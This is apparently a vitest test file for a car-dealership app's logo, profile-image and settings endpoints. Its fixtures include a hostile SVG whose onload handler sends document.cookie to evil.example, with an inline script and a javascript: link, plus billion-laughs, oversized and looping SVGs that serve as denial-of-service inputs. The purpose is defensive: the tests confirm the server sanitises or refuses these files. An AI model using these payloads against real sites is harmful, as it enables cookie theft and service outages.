import { createCanvas } from '@napi-rs/canvas';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, registerDealer, TEST_ORIGIN, type TestApp } from '../../test/build-test-app.ts';
import { pollHealth } from '../../test/health-polls.ts';
import { multipartBody } from '../../test/multipart.ts';

let t: TestApp;
let dealer: Awaited<ReturnType<typeof registerDealer>>;

const HOSTILE_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100" onload="fetch('https://evil.example/'+document.cookie)">
  <script>alert(document.domain)</script>
  <rect width="300" height="100" fill="#0f5132"/>
  <a xlink:href="javascript:alert(1)"><text x="20" y="60" font-size="40" fill="#fff">BRINDLEY</text></a>
</svg>`;

async function png(width: number, height: number, colour = '#0f5132') {
  const canvas = createCanvas(width, height);
  const ctx = canvas.getContext('2d');
  ctx.fillStyle = colour;
  ctx.fillRect(0, 0, width, height);
  return canvas.encode('png');
}

async function upload(url: string, field: string, bytes: Buffer, name: string, cookie = dealer.cookie) {
  const body = await multipartBody([{ field, name, bytes }]);
  return t.app.inject({
    method: 'POST',
    url,
    payload: body.payload,
    headers: { ...body.headers, cookie, origin: TEST_ORIGIN },
  });
}

beforeAll(async () => {
  t = await buildTestApp();
  dealer = await registerDealer(t.app, { dealershipName: 'Brindley & Hart Cars Ltd' });
});
afterAll(() => t.close());

describe('logo and profile image', () => {
  it('stores an SVG logo as a PNG drawn from it: no script, handler or link survives', async () => {
    const res = await upload('/api/dealer/logo', 'logo', Buffer.from(HOSTILE_SVG), 'logo.svg');
    expect(res.statusCode, res.body).toBe(200);
    const { logoUrl } = res.json();
    expect(logoUrl).toMatch(new RegExp(`^/api/branding/${dealer.id}/logo\\.png\\?v=[0-9a-f]{12}$`));
    const stored = await t.app.inject(logoUrl);
    expect(stored.headers['content-type']).toBe('image/png');
    expect(stored.rawPayload.subarray(1, 4).toString()).toBe('PNG');
    const text = stored.rawPayload.toString('latin1');
    for (const word of ['script', 'onload', 'javascript', 'evil.example', '<svg']) {
      expect(text).not.toContain(word);
    }
    // Drawn as large as the logo box allows: 800 × 267 for a 3:1 vector.
    expect(stored.rawPayload.readUInt32BE(16)).toBe(800);
  });

  it('keeps a PNG logo within the box, and the settings and the public URL point at it', async () => {
    const res = await upload('/api/dealer/logo', 'logo', await png(1600, 400), 'logo.png');
    const { logoUrl } = res.json();
    expect(res.json().businessNameValidation).toEqual({ hasInconsistencies: false, inconsistencyCount: 0 });
    const settings = (
      await t.app.inject({ url: '/api/dealer/settings', headers: { cookie: dealer.cookie } })
    ).json();
    expect(settings.dealershipLogo).toBe(logoUrl);
    const served = await t.app.inject(logoUrl);
    expect(served.statusCode).toBe(200);
    expect(served.headers['cache-control']).toBe('public, max-age=86400');
    // Mail clients load the logo from their own site; everything else stays same-origin.
    expect(served.headers['cross-origin-resource-policy']).toBe('cross-origin');
    const profile = await t.app.inject({ url: '/api/dealer/settings', headers: { cookie: dealer.cookie } });
    expect(profile.headers['cross-origin-resource-policy']).toBe('same-origin');
    expect([served.rawPayload.readUInt32BE(16), served.rawPayload.readUInt32BE(20)]).toEqual([800, 200]);
  });

  it('bounds what a file claims before decoding it: a huge SVG is drawn small, a huge PNG refused', async () => {
    const bomb =
      '<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000"><rect width="30000" height="30000" fill="#0f5132"/></svg>';
    const svg = await upload('/api/dealer/logo', 'logo', Buffer.from(bomb), 'bomb.svg');
    expect(svg.statusCode, svg.body).toBe(200);
    const drawn = await t.app.inject(svg.json().logoUrl);
    expect([drawn.rawPayload.readUInt32BE(16), drawn.rawPayload.readUInt32BE(20)]).toEqual([320, 320]);

    const header = Buffer.from(await png(10, 10));
    header.writeUInt32BE(20_000, 16);
    header.writeUInt32BE(20_000, 20);
    const huge = await upload('/api/dealer/logo', 'logo', header, 'huge.png');
    expect(huge.statusCode).toBe(400);
    expect(huge.json().message).toMatch(/20000×20000 pixels; at most 8000/);

    const sizeless = '<svg xmlns="http://www.w3.org/2000/svg" width="100%"><rect/></svg>';
    const vague = await upload('/api/dealer/logo', 'logo', Buffer.from(sizeless), 'vague.svg');
    expect(vague.json().message).toMatch(/needs a width and height in pixels, or a viewBox/);

    // The server still answers after all of that.
    expect((await t.app.inject('/healthz')).statusCode).toBe(200);
  });

  it('reads the size of WebP and JPEG photos from their headers', async () => {
    const canvas = createCanvas(640, 480);
    canvas.getContext('2d').fillRect(0, 0, 640, 480);
    for (const [format, name] of [
      ['webp', 'me.webp'],
      ['jpeg', 'me.jpg'],
    ] as const) {
      const res = await upload(
        '/api/dealer/profile-image',
        'profileImage',
        await canvas.encode(format as 'webp'),
        name,
      );
      expect(res.statusCode, `${format}: ${res.body}`).toBe(200);
    }
  });

  it('refuses what is not an image, a damaged one, and one too large', async () => {
    const cases: [Buffer, string, number, RegExp][] = [
      [Buffer.from('%PDF-1.7 not a logo'), 'logo.png', 400, /PNG, JPEG, WEBP, SVG image/],
      [Buffer.concat([(await png(10, 10)).subarray(0, 40)]), 'logo.png', 400, /could not be read/],
      [Buffer.alloc(6 * 1024 * 1024, 1), 'huge.png', 413, /larger than 5 MB/],
    ];
    for (const [bytes, name, status, message] of cases) {
      const res = await upload('/api/dealer/logo', 'logo', bytes, name);
      expect(res.statusCode, name).toBe(status);
      expect(res.json().message).toMatch(message);
    }
    const wrongField = await upload('/api/dealer/logo', 'image', await png(10, 10), 'x.png');
    expect(wrongField.statusCode).toBe(400);
  });

  it('resizes a profile photo to a JPEG of at most 512 pixels, readable only by its dealer', async () => {
    const res = await upload('/api/dealer/profile-image', 'profileImage', await png(1920, 1080), 'me.png');
    expect(res.statusCode, res.body).toBe(200);
    const mine = await t.app.inject({ url: res.json().profileImageUrl, headers: { cookie: dealer.cookie } });
    expect(mine.headers['content-type']).toBe('image/jpeg');
    expect(mine.rawPayload[0]).toBe(0xff);
    const svg = await upload('/api/dealer/profile-image', 'profileImage', Buffer.from(HOSTILE_SVG), 'me.svg');
    expect(svg.statusCode).toBe(400);
    const other = await registerDealer(t.app);
    const theirs = await t.app.inject({
      url: '/api/dealer/profile-image',
      headers: { cookie: other.cookie },
    });
    expect(theirs.statusCode).toBe(404);
  });
});

/** `levels` groups of ten uses of the group before: 10^levels rectangles drawn from about 2 KB. */
function laughingSvg(levels: number) {
  const groups = Array.from({ length: levels }, (_, i) => {
    const uses = Array.from({ length: 10 }, () => `<use href="#a${i}"/>`).join('');
    return `<g id="a${i + 1}">${uses}</g>`;
  });
  return `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="100"><defs><rect id="a0" width="4" height="4" fill="#0f5132"/>${groups.join('')}</defs><use href="#a${levels}"/></svg>`;
}

describe('hostile logos', () => {
  it('refuses an SVG whose <use> elements multiply each other, fast, while the server keeps answering', async () => {
    const svg = Buffer.from(laughingSvg(9));
    expect(svg.length).toBeLessThan(2500);
    const started = performance.now();
    const { result: res, polls } = await pollHealth(
      t.app,
      upload('/api/dealer/logo', 'logo', svg, 'laughs.svg'),
    );
    expect(performance.now() - started).toBeLessThan(2000);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(
      /^The logo SVG cannot be used: .*(nested more than 8 deep|more than 100,000 elements)/,
    );
    // Drawing the billion rectangles would hold the event loop for many seconds; a busy CI machine (two
    // database tiers side by side) stretches a healthy poll past 100 ms (124 ms seen), so the bound is 500 ms.
    expect(Math.max(...polls)).toBeLessThan(500);

    // A million elements from six levels: refused for the count, not the depth.
    const million = await upload('/api/dealer/logo', 'logo', Buffer.from(laughingSvg(6)), 'million.svg');
    expect(million.statusCode).toBe(400);
    expect(million.json().message).toMatch(/would make more than 100,000 elements/);
  });

  it('refuses reference loops and very deep nesting, and still draws an SVG that reuses a shape', async () => {
    const loop =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g></svg>';
    const deep = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${'<g>'.repeat(300)}${'</g>'.repeat(300)}</svg>`;
    for (const [svg, reason] of [
      [loop, /loop back on themselves/],
      [deep, /nested more than 256 deep/],
    ] as const) {
      const res = await upload('/api/dealer/logo', 'logo', Buffer.from(svg), 'x.svg');
      expect(res.statusCode, svg.slice(0, 60)).toBe(400);
      expect(res.json().message).toMatch(reason);
    }
    const reuse = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><defs><circle id="dot" r="8" fill="#0f5132"/></defs>${Array.from({ length: 10 }, (_, i) => `<use href="#dot" x="${20 + i * 28}" y="50"/>`).join('')}</svg>`;
    const ok = await upload('/api/dealer/logo', 'logo', Buffer.from(reuse), 'dots.svg');
    expect(ok.statusCode, ok.body).toBe(200);
  });
});

describe('general settings', () => {
  const put = (body: object, cookie = dealer.cookie) =>
    t.app.inject({
      method: 'PUT',
      url: '/api/dealer/settings',
      payload: body,
      headers: { cookie, origin: TEST_ORIGIN },
    });
  const valid = {
    dealershipName: 'Brindley & Hart Cars Ltd',
    dealershipAddress: 'Canal Basin Works, 18 Lockkeeper’s Way, Birmingham B18 4QN',
    dealershipPhone: '0121 496 0000',
    dealershipWhatsapp: '',
    dealershipWebsite: 'https://brindleyhart.example',
    primaryColor: '#0f5132',
    secondaryColor: '#ffd700',
    emailFromName: 'Brindley & Hart Sales',
    emailSignature: 'Sam Hart\nSales Manager',
  };

  it('validates with the spec’s messages', async () => {
    const cases: [object, string, string][] = [
      [{ dealershipName: ' ' }, 'dealershipName', 'Dealership name is required'],
      [{ dealershipWebsite: 'not a url' }, 'dealershipWebsite', 'Invalid website URL'],
      [{ primaryColor: 'green' }, 'primaryColor', 'Invalid color format'],
      [{ secondaryColor: '#12345' }, 'secondaryColor', 'Invalid color format'],
    ];
    for (const [change, path, message] of cases) {
      const res = await put({ ...valid, ...change });
      expect(res.statusCode).toBe(400);
      expect(res.json().issues).toContainEqual({ path, message });
    }
  });

  it('saves and reads back, and each dealer sees only their own', async () => {
    const res = await put(valid);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ ...valid, dealershipWhatsapp: null });
    const other = await registerDealer(t.app, { dealershipName: 'Kingsway Motors Ltd' });
    const theirs = await t.app.inject({ url: '/api/dealer/settings', headers: { cookie: other.cookie } });
    expect(theirs.json()).toMatchObject({ dealershipName: 'Kingsway Motors Ltd', primaryColor: '#667eea' });
  });
});
